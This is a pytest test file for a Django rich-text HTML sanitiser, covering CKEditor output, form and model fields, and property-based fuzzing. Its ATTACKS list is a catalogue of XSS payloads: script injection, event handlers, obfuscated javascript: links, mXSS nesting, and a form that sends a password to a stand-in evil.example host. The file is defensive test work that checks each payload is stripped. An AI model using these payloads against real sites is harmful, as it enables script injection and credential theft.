"""Sanitizer, fields and plain text of rich text."""

import re
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any

import pytest
from django import forms
from django.contrib.admin.widgets import AdminTextareaWidget
from django.core.exceptions import ValidationError
from django.db import connection, models
from hypothesis import given
from hypothesis import strategies as st

from publishing.richtext import (
    MAX_LENGTH,
    RichTextField,
    RichTextFormField,
    is_empty,
    plain,
    sanitise,
    sanitizer,
)
from publishing.richtext import field as richtext_field
from publishing.richtext.editor import EditorWidget
from publishing.richtext.markup import ALLOWED, HEADINGS, INLINE, UNPRINTABLE

# What CKEditor writes for a text that uses everything an editor can make.
REFERENCE = """<h2>What a cramp is</h2>

<p>A <strong>sudden</strong>, <em>painful</em> contraction; H<sub>2</sub>O &amp; Ca<sup>2+</sup>, 5&nbsp;mg &lt; 1&nbsp;g.<br>
In Kampo: <span dir="ltr" lang="ja">血虚</span>, “Blood deficiency” – see <a href="/teas/jujube/" title="Jujube &amp; chamomile">the tea</a>, <a href="https://example.com/?a=1&amp;b=2" rel="noopener">a study</a>, <a href="mailto:desk@example.com">write</a> or <a href="tel:+81312345678">call</a>.</p>

<ul>
\t<li>calcium
\t<ul>
\t\t<li>milk</li>
\t</ul>
\t</li>
\t<li>magnesium</li>
</ul>

<ol>
\t<li>Pull the toes towards the shin.</li>
</ol>

<h3>In the night</h3>

<blockquote>
<p>Warm the calf.</p>
</blockquote>

<table>
\t<caption>Minerals</caption>
\t<thead>
\t\t<tr>
\t\t\t<th scope="col">Mineral</th>
\t\t\t<th colspan="2" scope="col">Food</th>
\t\t</tr>
\t</thead>
\t<tbody>
\t\t<tr>
\t\t\t<th rowspan="2" scope="row">Calcium</th>
\t\t\t<td>milk</td>
\t\t\t<td>sardines</td>
\t\t</tr>
\t\t<tr>
\t\t\t<td colspan="2">&nbsp;</td>
\t\t</tr>
\t</tbody>
</table>

<hr>
<h4>Later</h4>

<p>&nbsp;</p>"""  # noqa: E501

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=a&gt;'",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p class=evil id=evil data-evil=1>x</p>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#1; javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/&#9;/evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><script>alert(1)</script>'></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->",
    "<a title='\"><script>alert(1)</script>' href=/x>x</a>",
    "<span lang='ja\"onclick=alert(1)'>x</span>",
]

ELEMENTS = [
    *("a", "b", "blockquote", "body", "br", "button", "caption", "center", "col", "dd", "div"),
    *("dl", "em", "font", "form", "h1", "h2", "h6", "hr", "html", "i", "iframe", "img", "li"),
    *("math", "mtext", "nobr", "ol", "option", "p", "pre", "script", "select", "span", "strong"),
    *("style", "svg", "table", "tbody", "td", "template", "textarea", "tfoot", "th", "title"),
    *("tr", "ul"),
]
ATTRIBUTES = [
    *("", " href='/x'", " href=https://example.com", " href='//evil'", " lang=ja", " onload=x"),
    *(" title='<b>\"'", " colspan=2", " dir=ltr lang=zh", " href='java&#9;script:x'"),
]
markup = st.lists(
    st.one_of(
        st.builds("<{}{}>".format, st.sampled_from(ELEMENTS), st.sampled_from(ATTRIBUTES)),
        st.builds("</{}>".format, st.sampled_from(ELEMENTS)),
        st.sampled_from(["x", " ", "\r\n", "&nbsp;", "&lt;", "&amp;lt;", "<!--", "-->", "<", '"']),
        st.text(max_size=4),
    ),
    max_size=30,
).map("".join)


class Inspector(HTMLParser):
    """Fails at the first thing that the allowlist does not name, or that is out of place."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.opened: list[str] = []

    def handle_endtag(self, tag: str) -> None:
        assert self.opened.pop() == tag

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, tag
        if tag not in {*INLINE, "br"}:
            assert not {*INLINE, *HEADINGS, "p"} & set(self.opened[-1:]), (self.opened, tag)
        if tag not in {"br", "hr", "img"}:
            self.opened.append(tag)
        for name, value in attrs:
            assert name in ALLOWED[tag] | ({"rel"} if tag == "a" else set()), (tag, name)
            if name == "href":
                assert re.match(r"https?://[^/\\]|mailto:|tel:|/(?![/\\])|#", value or ""), value

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def inspect(text: str) -> None:
    inspector = Inspector()
    inspector.feed(text)
    inspector.close()


# The sanitiser


def test_what_the_editor_writes_is_stored_as_it_is():
    assert sanitise(REFERENCE) == REFERENCE


def test_line_ends_of_a_form_are_those_of_the_editor():
    assert sanitise(REFERENCE.replace("\n", "\r\n") + "\r\n") == REFERENCE


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_hostile_stays(attack):
    result = sanitise(f"<p>before</p>{attack}")
    inspect(result)
    assert result.startswith("<p>before</p>")
    assert "evil" not in re.sub(r"&lt;.*?&gt;", "", result)
    assert sanitise(result) == result


@given(markup)
def test_any_markup_comes_out_clean_and_a_second_pass_changes_nothing(text):
    result = sanitise(text)
    inspect(result)
    assert sanitise(result) == result


@given(st.text())
def test_plain_words_stay_the_same_words(text):
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    assert plain(sanitise(escaped)) == " ".join(UNPRINTABLE.sub("", text).split())


@pytest.mark.parametrize(
    ("given_text", "stored"),
    [
        ("<h1>x</h1>", "<h2>x</h2>"),
        ("<h5>x</h5><h6>y</h6>", "<h4>x</h4><h4>y</h4>"),
        ("<b>x</b> <i>y</i>", "<strong>x</strong> <em>y</em>"),
        ("<h2><span><h1>x</h1></span></h2>", "<h2>x</h2>"),
        ("<a name=x>x</a>", "x"),
        ("<a href=''>x</a>", "x"),
        ("<span>x</span>", "x"),
        ("<span style='color:red'>x <b>y</b></span>", "x <strong>y</strong>"),
        ("<p>a<strong> </strong>b<em></em></p>", "<p>a b</p>"),
        ("<p></p><h2>&nbsp;</h2><p>x</p>", "<p>x</p>"),
        ("<div>one</div><div>two</div>", "<p>one</p><p>two</p>"),
        ("<table><tr><td>1</table>", "<table><tbody><tr><td>1</td></tr></tbody></table>"),
        ("<td colspan=0 scope=col>1</td>", "1"),
        ("<u>x</u><s>y</s><img src=/x.png>", "xy"),
        ("caf&eacute; &mdash; &#34;x&#34;", 'café — "x"'),
        ("x &lt; y &amp; z&nbsp;!", "x &lt; y &amp; z&nbsp;!"),
        ("<p>x</p>\n", "<p>x</p>"),
        ("a\x00b\x0bc\ud800d&#11;e", "abcde"),
        ("", ""),
    ],
)
def test_accidents_are_mended(given_text, stored):
    assert sanitise(given_text) == stored


@pytest.mark.parametrize(
    ("given_text", "stored"),
    [
        ("<h2><em><h2>tea", "<h2><em>tea</em></h2>"),
        (
            "<h2><em>a<h3>b</h3>c</em>d</h2>",
            "<h2><em>a</em></h2><h3><em>b</em></h3><h2><em>c</em>d</h2>",
        ),
        ("<h2><p>a</p></h2>", "<h2>a</h2>"),
        ("<h2>a<div>b</div>c</h2>", "<h2>a</h2><h2>b</h2><h2>c</h2>"),
        ("<h2>a<ul><li>b</li></ul></h2>", "<h2>a</h2><ul><li>b</li></ul>"),
        (
            '<a href="/x/"><h2>a</h2><p>b</p>c</a>',
            '<h2><a href="/x/">a</a></h2><p><a href="/x/">b</a></p><a href="/x/">c</a>',
        ),
        (
            "<strong>a<ul><li>b</li></ul>c</strong>",
            "<strong>a</strong><ul><li><strong>b</strong></li></ul><strong>c</strong>",
        ),
        (
            "<em><table><tr><td>a</td><td></td></tr></table></em>",
            "<table><tbody><tr><td><em>a</em></td><td></td></tr></tbody></table>",
        ),
        ("<em>a<hr>b</em>", "<em>a</em><hr><em>b</em>"),
        ("<div>a<p>b</p>c</div>", "<p>a</p><p>b</p><p>c</p>"),
    ],
)
def test_a_block_is_moved_out_of_words_and_headings_and_keeps_their_emphasis(given_text, stored):
    assert sanitise(given_text) == stored
    assert sanitise(stored) == stored


@pytest.mark.parametrize("address", ["/" + "x" * 50_000, "/" + "x" * 1_900])
def test_a_link_without_an_end_is_not_repeated_until_the_memory_is_full(address):
    result = sanitise(f'<a href="{address}">' + "<p>y" * 20_000)
    assert plain(result) == plain("<p>y</p>" * 20_000)
    assert len(result) < MAX_LENGTH


@pytest.mark.parametrize(
    "target",
    [
        *("http://example.com", "https://example.com/?q=%E8%A1%80#x", "HTTPS://EXAMPLE.COM/"),
        *("mailto:desk@example.com", "tel:+81312345678", "/", "/teas/jujube/?x=1#top", "#cramps"),
    ],
)
def test_links_to_pages_mail_and_telephone_stay(target):
    assert f'href="{target}"' in sanitise(f'<a href="{target}">x</a>')


def test_links_to_other_sites_get_noopener_and_only_they():
    external = '<a href="https://example.com" rel="noopener">x</a>'
    assert sanitise('<a rel="opener" target="_top" href="https://example.com">x</a>') == external
    assert sanitise('<a href="/teas/" rel="opener">x</a>') == '<a href="/teas/">x</a>'


def test_only_values_that_mean_something_stay():
    assert sanitise('<span lang="ja" dir="up">x</span>') == '<span lang="ja">x</span>'
    table = "<table><tbody><tr><th{}>x</th></tr></tbody></table>"
    assert sanitise(table.format(' scope="evil" colspan="1e9"')) == table.format("")


def test_markup_that_never_settles_becomes_its_words(monkeypatch):
    monkeypatch.setattr(sanitizer, "_rewrite", lambda text: text + "<br>")
    assert sanitise("<p>calf &amp; shin</p>") == "<p>calf &amp; shin</p>"


@pytest.mark.parametrize("text", ["<blockquote>" * 16_000, "<p><button>" * 16_000, "<b>" * 60_000])
def test_deep_nesting_breaks_nothing(text):
    result = sanitise(text + "x")
    assert plain(result) == "x"


# Its words


def test_plain_gives_words_without_markup():
    assert plain("<h2>Legs</h2><p>A&nbsp;<strong>cr</strong>amp &lt; 1&amp;2<br>b</p>") == (
        "Legs A cramp < 1&2 b"
    )


@pytest.mark.parametrize("text", ["", None, "<p>&nbsp;</p>", "<p> <br></p>\n", "<hr>"])
def test_a_text_without_words_is_empty(text):
    assert is_empty(text)


def test_a_text_with_a_word_is_not_empty():
    assert not is_empty("<p>x</p>")


# The form


def test_the_form_gives_sanitised_text():
    assert RichTextFormField().clean("<h1>x</h1><script>1</script>") == "<h2>x</h2>"


def test_a_text_without_words_counts_as_missing():
    with pytest.raises(ValidationError, match="required"):
        RichTextFormField().clean("<p>&nbsp;</p>")
    assert RichTextFormField(required=False).clean("<p>&nbsp;</p>") == ""


def test_a_text_of_50_mb_is_refused_with_a_sentence_before_it_is_parsed(monkeypatch):
    monkeypatch.setattr(richtext_field, "sanitise", lambda text: pytest.fail("parsed"))
    field = RichTextField()
    for clean in (field.formfield().clean, lambda text: field.clean(text, None)):
        with pytest.raises(ValidationError) as refusal:
            clean("x" * 50_000_000)
        assert refusal.value.messages == [
            "This text has 50,000,000 characters; at most 200,000 fit. "
            "Shorten it or split it into two articles."
        ]


def test_a_text_that_just_fits_is_taken():
    text = "<p>" + "x" * (MAX_LENGTH - 7) + "</p>"
    assert RichTextFormField().clean(text) == text


def test_an_untouched_text_counts_as_unchanged():
    field = RichTextFormField()
    assert not field.has_changed(REFERENCE, REFERENCE.replace("\n", "\r\n") + "\r\n")
    assert not field.has_changed(None, "")
    assert field.has_changed(REFERENCE, REFERENCE.replace("sudden", "slow"))
    assert field.has_changed("", "x" * (MAX_LENGTH + 1))
    assert not RichTextFormField(disabled=True).has_changed("", "x" * (MAX_LENGTH + 1))


def test_the_admin_gets_the_editor_and_no_plain_textarea():
    form_field = RichTextField().formfield(widget=AdminTextareaWidget)
    assert isinstance(form_field, RichTextFormField)
    assert isinstance(form_field.widget, EditorWidget)


def test_the_browser_is_not_asked_to_require_a_hidden_field():
    class Desk(forms.Form):
        body = RichTextField().formfield()

    page = str(Desk()["body"])
    assert not re.search(r"\s(required|maxlength)", page)
    assert "&lt;script&gt;" in str(Desk({"body": "<script>"})["body"])


# The field


def test_saving_sanitises_and_sets_the_attribute():
    field = RichTextField()
    field.set_attributes_from_name("body")
    row: Any = SimpleNamespace(body="<h1>x</h1>")
    assert field.pre_save(row, add=True) == row.body == "<h2>x</h2>"


def test_update_and_bulk_create_cannot_get_round_the_sanitiser():
    prepared = RichTextField().get_db_prep_save("<script>1</script><p>x</p>", connection)
    assert prepared == "<p>x</p>"


def test_expressions_and_nothing_pass_through():
    field = RichTextField(null=True)
    expression = models.Value("<p>x</p>", output_field=field)
    assert field.get_db_prep_save(None, connection) is None
    assert field.get_db_prep_save(expression, connection) is expression


def test_cleaning_a_model_sanitises():
    assert RichTextField().clean("<h1>x</h1>", None) == "<h2>x</h2>"


def test_migrations_stay_as_they_are():
    _, path, args, kwargs = RichTextField(blank=True).deconstruct()
    assert (path, args, kwargs) == ("publishing.richtext.RichTextField", [], {"blank": True})
    *_, kwargs = RichTextField(max_length=500).deconstruct()
    assert kwargs == {"max_length": 500}
    assert RichTextField(max_length=500).clone().max_length == 500
